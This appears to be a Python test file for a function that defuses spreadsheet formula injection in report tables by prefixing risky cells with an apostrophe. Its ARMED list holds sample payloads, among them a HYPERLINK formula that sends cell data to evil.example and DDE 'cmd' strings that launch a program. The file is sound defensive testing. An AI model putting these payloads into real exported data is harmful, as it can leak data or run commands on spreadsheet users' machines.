from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from proscribe.backends.reports.formula import defuse, defuse_text

ARMED = [
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=",
    "@",
    "-a",
]
HARMLESS = ["ACME", "-1,250.00", "+3%", "-0.5", "+1 234.5", "1-2", "a=b", "", "-", "--", "'=1"]


@pytest.mark.parametrize("text", ARMED)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert defuse_text(text) == f"'{text}"
    assert defuse(pl.DataFrame({"a": [text]}))["a"].to_list() == [f"'{text}"]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_and_a_number_in_text_stay_as_they_are(text: str) -> None:
    assert defuse_text(text) == text
    assert defuse(pl.DataFrame({"a": [text]}))["a"].to_list() == [text]


def test_only_texts_are_touched() -> None:
    frame = pl.DataFrame({"number": [-1.5, 2.0], "text": ["-x", None]})

    assert defuse(frame).to_dicts() == [
        {"number": -1.5, "text": "'-x"},
        {"number": 2.0, "text": None},
    ]


def test_texts_kept_as_categories_are_texts() -> None:
    frame = pl.DataFrame({"text": ["=1+1", "ACME"]}, schema={"text": pl.Categorical})

    assert defuse(frame)["text"].to_list() == ["'=1+1", "ACME"]


@given(st.text(max_size=12))
def test_tables_and_single_texts_are_judged_alike(text: str) -> None:
    assert defuse(pl.DataFrame({"a": [text]}))["a"].item() == defuse_text(text)


@given(st.text(max_size=12))
def test_defusing_twice_is_defusing_once(text: str) -> None:
    once = defuse_text(text)

    assert defuse_text(once) == once
